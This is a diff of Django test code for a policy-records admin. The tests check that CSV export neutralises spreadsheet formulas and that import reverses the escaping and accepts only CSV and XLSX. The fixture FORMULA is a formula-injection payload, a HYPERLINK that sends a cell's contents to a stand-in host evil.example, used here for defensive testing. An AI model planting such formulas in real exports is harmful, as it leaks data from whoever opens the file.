@@ -249,3 +249,45 @@ def test_the_admin_export(reference, admin_client, admin_user, pudong):
     assert response["Content-Type"].startswith("text/csv")
     content = response.content.decode("utf-8")
     assert "Exported" in content and "criteria" in content
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Open agenda")'
+
+
+@pytest.mark.filterwarnings("ignore:The 'get_valid_export_item_pks:DeprecationWarning")
+def test_the_admin_export_writes_a_formula_as_text_and_an_import_reads_it_back(
+    reference, admin_client, admin_user, pudong
+):
+    published_policy(user=admin_user, district=pudong, title_en=FORMULA, title_zh="@SUM(1+1)")
+    fields = {f"policyresource_{name}": "on" for name in PolicyResource().get_export_order()}
+    response = admin_client.post(
+        reverse("admin:policies_policy_export"),
+        {
+            "format": csv_format_index(),
+            "resource": "0",
+            "export_items": list(Policy.objects.values_list("pk", flat=True)),
+            **fields,
+        },
+    )
+    record = next(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
+    assert record["title_en"] == "'" + FORMULA
+    assert record["title_zh"] == "'@SUM(1+1)"
+
+    result = PolicyResource().import_data(
+        dataset(row(title_en="'" + FORMULA, title_zh="'-1")), dry_run=False
+    )
+    assert not result.has_errors()
+    imported = Policy.objects.get(title_zh="-1")
+    assert imported.title_en == FORMULA  # as typed, escaped again by the next export
+
+
+def test_the_admin_import_offers_only_the_documented_formats(admin_client):
+    page = admin_client.get(reverse("admin:policies_policy_import"))
+    choices = [label for value, label in page.context["form"].fields["format"].choices if value]
+    assert [label.lower() for label in choices] == ["csv", "xlsx"]
+    response = admin_client.post(
+        reverse("admin:policies_policy_import"),
+        {"import_file": upload("<table><tr><td>x</td></tr></table>"), "format": "2"},
+    )
+    assert response.status_code == 200  # a form error, not a 500
+    assert not Policy.objects.exists()
